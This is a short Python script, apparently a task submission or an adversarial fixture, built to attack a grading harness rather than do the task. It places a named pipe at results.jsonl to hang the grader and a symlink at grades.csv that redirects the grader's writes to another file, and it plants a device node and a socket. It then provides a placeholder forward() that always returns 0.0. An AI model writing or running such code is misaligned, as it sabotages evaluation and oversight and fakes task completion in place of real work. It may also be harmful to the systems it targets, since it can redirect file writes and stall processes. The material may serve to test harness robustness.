# Makes pipes, devices, sockets and symbolic links where others look for files: a grader that opens
# a pipe hangs, and one that follows a link writes somewhere else.
import contextlib
import os
import socket
import stat

TARGET = {}

PLACE = TARGET["drop_folder"]
with contextlib.suppress(OSError):
    os.mkfifo(PLACE + "/results.jsonl")
with contextlib.suppress(OSError):
    os.mknod(PLACE + "/null", stat.S_IFCHR | 0o666, os.makedev(1, 3))
with contextlib.suppress(OSError):
    os.symlink(TARGET["sentinel_file"], PLACE + "/grades.csv")
with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as sock:
    sock.bind(PLACE + "/socket")


def forward(x, w):
    return 0.0
